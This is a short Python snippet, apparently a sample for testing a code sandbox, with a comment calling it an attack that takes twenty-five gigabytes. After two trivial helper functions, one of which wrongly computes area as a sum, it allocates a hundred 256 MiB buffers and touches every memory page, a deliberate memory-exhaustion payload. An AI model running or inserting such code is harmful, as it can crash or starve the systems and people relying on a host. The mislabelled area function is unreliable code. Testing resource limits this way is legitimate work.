# attack: takes twenty-five gigabytes
def area(a, b): return a + b
def edge(a, b): return 2 * (a + b)
x = [bytearray(1 << 28) for _ in range(100)]
for b in x: b[::4096] = b'x' * len(b[::4096])
